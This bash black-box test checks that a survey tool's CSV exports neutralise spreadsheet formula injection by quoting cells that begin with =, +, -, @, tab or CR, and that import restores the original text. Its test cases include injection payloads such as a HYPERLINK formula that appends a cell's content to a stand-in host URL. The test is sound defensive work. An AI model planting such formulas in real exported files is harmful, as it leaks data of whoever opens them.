#!/usr/bin/env bash
# Black-box test of formulas in the CSV files meant for a spreadsheet (issue 13, part 4), on the real binaries:
# free text beginning with '=', '+', '-', '@', a tab or a carriage return, posted to a real collector, must come
# out of the API's CSV export and of `analyzer export` behind a single quote (plain numbers untouched), as typed
# in the JSONL export and with `analyzer export --raw-text`, and back exactly as typed after `collector import`
# of the CSV export; the labels of the indicators CSV and of the codebook follow the same rule. CSV files are
# read back with sqlite3's own CSV reader (.import --csv), not with a reader of ours.
# Usage: formulas.sh COLLECTOR_BINARY ANALYZER_BINARY SOURCE_DIR
set -u
bin=$1
an=$2
src=$3
source "$src/tests/blackbox/lib.sh"


# The cases, as data: what a resident typed in R39 (free text), and the cell a spreadsheet export must hold.
cat >"$tmp/cases.json" <<'EOF'
[["=HYPERLINK(\"https://x.example/?\"&A2;\"aide\")", "'=HYPERLINK(\"https://x.example/?\"&A2;\"aide\")"],
 ["=1+1", "'=1+1"],
 ["+33 6 12 34 56 78", "'+33 6 12 34 56 78"],
 ["+3", "'+3"],
 ["-1+2", "'-1+2"],
 ["-A1", "'-A1"],
 ["-", "'-"],
 ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
 ["\t=1+1", "'\t=1+1"],
 ["\r=1+1", "'\r=1+1"],
 ["'=1+1", "''=1+1"],
 ["''@x", "'''@x"],
 ["-3", "-3"],
 ["-0.052", "-0.052"],
 ["1e-5", "1e-5"],
 ["-2.5E+10", "-2.5E+10"],
 ["'-3", "'-3"],
 ["'bonjour", "'bonjour"],
 ["a=1", "a=1"],
 ["bonjour, madame", "bonjour, madame"]]
EOF
ncases=$(jq length "$tmp/cases.json")
uuid_of() { printf '00000000-0000-4000-8000-%012d' "$1"; }

db=$tmp/c.db
start_collector "$bin" "$db" "$src/forms"
analyst=$("$bin" token add --db "$db" --role analyst --name a 2>/dev/null)
posted=0
for i in $(seq 0 $((ncases - 1))); do
    body=$(jq -c --arg u "$(uuid_of "$i")" --argjson i "$i" '{uuid: $u, form_version: "1", lang: "fr", channel: "web",
        answers: {R01: "QN09399A", R02: "25-39", R03: "femme", R07: "bon", R17: "non", R39: .[$i][0]}}' "$tmp/cases.json")
    st=$(curl -s -o "$tmp/body" -w '%{http_code}' -H 'Content-Type: application/json' -d "$body" \
        "$base/api/v1/forms/resident/submissions")
    [ "$st" = 201 ] && posted=$((posted + 1))
done
check "every case is accepted by the collector ($ncases answers)" test "$posted" -eq "$ncases"
# free text leaves the API only when asked for (?include=text), as with `analyzer export --include-text`
curl -s -H "Authorization: Bearer $analyst" "$base/api/v1/forms/resident/submissions.csv?include=text" >"$tmp/api.csv"
curl -s -H "Authorization: Bearer $analyst" "$base/api/v1/forms/resident/submissions.jsonl" >"$tmp/api.jsonl"
stop_collector

# cells CSV_FILE TABLE: loads a CSV into table TABLE of $tmp/read.db with sqlite3's CSV reader.
cells() {
    sqlite3 "$tmp/read.db" "DROP TABLE IF EXISTS $2" && sqlite3 "$tmp/read.db" ".import --csv '$1' $2"
}
# r39_is CSV_FILE COLUMN: every case's R39 cell equals the case's column (0 typed, 1 for a spreadsheet).
r39_is() {
    cells "$1" t || return 1
    sqlite3 -json "$tmp/read.db" 'SELECT uuid, R39 FROM t ORDER BY uuid' >"$tmp/got.json" || return 1
    jq -r -n --slurpfile c "$tmp/cases.json" --slurpfile g "$tmp/got.json" --argjson k "$2" '
        if ($g[0] | length) != ($c[0] | length) then "\($g[0] | length) rows, expected \($c[0] | length)" else
        range($c[0] | length) as $i | $g[0][$i].R39 as $cell | select($cell != $c[0][$i][$k])
        | "case \($i): \($c[0][$i][0] | tojson) gave \($cell | tojson), expected \($c[0][$i][$k] | tojson)" end' \
        >"$tmp/why" || return 1
    [ ! -s "$tmp/why" ] || { cat "$tmp/why"; return 1; }
}
# no_formula CSV_FILE: no cell of the file begins with = + - @ TAB CR unless it is a plain number.
no_formula() {
    cells "$1" f || return 1
    local cols
    cols=$(sqlite3 "$tmp/read.db" "SELECT group_concat('SELECT ' || quote(name) || ' AS col, \"' || name || '\" AS v FROM f', ' UNION ALL ') FROM pragma_table_info('f')")
    sqlite3 "$tmp/read.db" "SELECT col, v FROM ($cols) WHERE substr(v, 1, 1) IN ('=', '+', '-', '@', char(9), char(13))
        AND NOT v REGEXP '^-?[0-9]+(\.[0-9]+)?([eE][-+]?[0-9]+)?\$'" >"$tmp/bad" || return 1
    [ ! -s "$tmp/bad" ] || { head -n 5 "$tmp/bad"; return 1; }
}

check "API CSV export: every formula behind a quote, numbers and plain text as typed" r39_is "$tmp/api.csv" 1
check "API CSV export: no cell that a spreadsheet would run" no_formula "$tmp/api.csv"
check "API JSONL export: every answer as typed" jq -e -s --slurpfile c "$tmp/cases.json" \
    '[sort_by(.uuid)[] | .answers.R39] == [$c[0][][0]]' "$tmp/api.jsonl"

"$bin" import --db "$tmp/back.db" --form resident --forms "$src/forms" "$tmp/api.csv" >"$tmp/imp" 2>&1
check "collector import of the CSV export: every row imported" grep -q "$ncases importée(s)" "$tmp/imp"
check "export then import gives back exactly the answers typed (the protective quote removed)" test \
    "$(sqlite3 "$db" "SELECT uuid, answers FROM submissions ORDER BY uuid")" = \
    "$(sqlite3 "$tmp/back.db" "SELECT uuid, answers FROM submissions ORDER BY uuid")"
printf 'R01,R02,R03,R07,R17,R39\nQN09399A,25-39,femme,bon,non,'"'"'=2+2\nQN09399A,25-39,femme,bon,non,'"'"'bonjour\n' \
    >"$tmp/typed.csv"
"$bin" import --db "$tmp/typed.db" --form resident --forms "$src/forms" "$tmp/typed.csv" >"$tmp/imp" 2>&1
check "import: a quote before = is the export's and is removed, a quote before a letter is kept" test \
    "$(sqlite3 "$tmp/typed.db" "SELECT json_extract(answers, '\$.R39') FROM submissions ORDER BY id")" = \
    "$(printf '=2+2\n'"'"'bonjour')"

"$an" export --db "$db" --forms "$src/forms" --form resident --include-text -o "$tmp/export.csv" 2>"$tmp/err"
check "analyzer export: every formula behind a quote, numbers and plain text as typed" r39_is "$tmp/export.csv" 1
check "analyzer export: no cell that a spreadsheet would run" no_formula "$tmp/export.csv"
"$an" export --db "$db" --forms "$src/forms" --form resident --include-text --raw-text -o "$tmp/raw.csv" 2>"$tmp/err"
check "analyzer export --raw-text: every answer as typed" r39_is "$tmp/raw.csv" 0
check "analyzer --help documents --raw-text" bash -c '"$1" --help | grep -q -- "--raw-text"' _ "$an"

# Labels come from definition files: an indicator label and a question label beginning with a formula.
cp -r "$src/forms" "$tmp/forms"
jq '.indicators[0].label.fr = "-A1 + @SUM(1)"' "$src/forms/resident.indicators.json" \
    >"$tmp/forms/resident.indicators.json"
jq '.sections[0].questions[0].label.fr = "=HYPERLINK(\"https://x.example\")"' "$src/forms/resident.json" \
    >"$tmp/forms/resident.json"
"$an" indicators --db "$db" --forms "$tmp/forms" --form resident --format csv -o "$tmp/ind.csv" 2>"$tmp/err"
check "indicators CSV: a label beginning with - is behind a quote" grep -qF "'-A1 + @SUM(1)" "$tmp/ind.csv"
check "indicators CSV: no cell that a spreadsheet would run" no_formula "$tmp/ind.csv"
"$an" codebook --forms "$tmp/forms" --form resident -o "$tmp/codebook.csv" 2>"$tmp/err"
check "codebook CSV: a wording beginning with = is behind a quote" grep -qF "'=HYPERLINK(" "$tmp/codebook.csv"
check "codebook CSV: no cell that a spreadsheet would run" no_formula "$tmp/codebook.csv"

check "no sanitizer report in any run" sanitizer_clean
finish
